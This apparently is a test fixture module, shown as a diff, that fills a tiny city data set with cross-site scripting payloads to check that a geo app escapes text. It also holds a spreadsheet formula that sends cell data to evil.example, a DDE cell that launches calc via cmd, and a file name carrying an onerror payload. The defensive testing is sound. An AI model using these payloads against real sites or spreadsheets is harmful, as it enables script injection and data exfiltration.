@@ -1,0 +1,95 @@
+"""Hostile text and a hostile city: geo's tiny city with a payload in every text field.
+
+Each payload is built to run ``window.__pwned = 1`` (or open a dialog) if it is ever
+inserted as HTML, as an attribute, inside a ``<script>``, or inside a JavaScript
+template literal. Every text value of the data set is ``<field marker> + PAYLOAD``,
+so a test can find a field by its marker and compare the rest as text.
+"""
+
+import json
+
+import geopandas as gpd
+import pandas as pd
+
+from tests.geo import tiny
+
+# One string that attacks every context at once; the browser tests assert that
+# window.__pwned stays undefined and that no dialog opens.
+PAYLOAD = (
+    "<b>bold</b> <script>window.__pwned=1</script>"
+    "<img src=x onerror=\"window.__pwned=1;alert(1)\">"
+    "\" onmouseover=\"window.__pwned=1\" x=\""
+    "' onfocus='window.__pwned=1' autofocus='"
+    "</script><script>window.__pwned=1;alert(2)</script>"
+    "</textarea></title></style><svg onload=alert(3)>"
+    "${window.__pwned=1}`+alert(4)+`\\`"
+    "{{7*7}}{% raw %}"
+    "\u202etxt.exe\u202c =1+2"
+)
+# Raw fragments that must never appear in an HTML response as they are (escaped
+# forms are fine). Finding one means the payload reached the page as markup.
+RAW_FRAGMENTS = (
+    "<script>window.__pwned", "<img src=x onerror", "<svg onload", "<b>bold</b>",
+    "</script><script>",
+)
+# A cell that a spreadsheet would run as a formula.
+FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
+
+HOSTILE_WORK_ID = "w'\"><img src=x onerror=alert(5)>${1}"
+HOSTILE_DISTRICT_ID = "d\"><svg onload=alert(6)>"
+# The work a browser test clicks to open its popup.
+POPUP_WORK_ID = "p1"
+
+
+def hostile(marker):
+    """A field's value: its marker (to find it) then the payload."""
+    return f"{marker}:{PAYLOAD}"
+
+
+def districts():
+    rows = []
+    for row in tiny.DISTRICTS:
+        rows.append({**row, **{f"name_{lang}": hostile(f"district-{row['id']}-{lang}")
+                               for lang in ("ru", "kk", "en")}})
+    rows[2] = {**rows[2], "id": HOSTILE_DISTRICT_ID}
+    return rows
+
+
+def works():
+    rows = []
+    for row in tiny.WORKS:
+        texts = {f"title_{lang}": hostile(f"work-{row['id']}-{lang}") for lang in ("ru", "kk", "en")}
+        rows.append({**row, **texts, "address": hostile(f"address-{row['id']}")})
+    rows[-1] = {**rows[-1], "id": HOSTILE_WORK_ID}  # p22, in the district with the hostile id
+    return rows
+
+
+def funding():
+    rows = [{**row, "note": hostile(f"note-{row['record_id']}")} for row in tiny.FUNDING]
+    rows[-1] = {**rows[-1], "work_id": HOSTILE_WORK_ID}
+    rows[0] = {**rows[0], "note": FORMULA}
+    rows[1] = {**rows[1], "record_id": "@SUM(1+1)*cmd|' /C calc'!A0"}
+    return rows
+
+
+def meetings():
+    rename = {tiny.DISTRICTS[2]["id"]: HOSTILE_DISTRICT_ID}
+    return [{**row, "district_id": rename.get(row["district_id"], row["district_id"]),
+             "summary_ru": hostile(f"meeting-{i}-ru"), "summary_kk": hostile(f"meeting-{i}-kk")}
+            for i, row in enumerate(tiny.MEETINGS)]
+
+
+def write_hostile_city(folder):
+    """Write the hostile city (GeoJSON through pyogrio, CSV) into ``folder``."""
+    folder.mkdir(parents=True, exist_ok=True)
+    gpd.GeoDataFrame(districts(), crs=tiny.CRS).to_file(folder / "districts.geojson", engine="pyogrio")
+    # A file name is data too: the check report and problems show it.
+    works_file = folder / "works_<img src=x onerror=alert(7)>.geojson"
+    gpd.GeoDataFrame(works(), crs=tiny.CRS).to_file(works_file, engine="pyogrio")
+    pd.DataFrame(funding()).to_csv(folder / "funding.csv", index=False)
+    pd.DataFrame(meetings()).to_csv(folder / "meetings.csv", index=False)
+    (folder / "city.json").write_text(json.dumps({
+        "center": [82.61, 49.945], "metric_crs": tiny.METRIC, "extent": [82.0, 49.5, 83.5, 50.5],
+        "name": {lang: hostile(f"city-{lang}") for lang in ("ru", "kk", "en")},
+    }), encoding="utf-8")
+    return folder
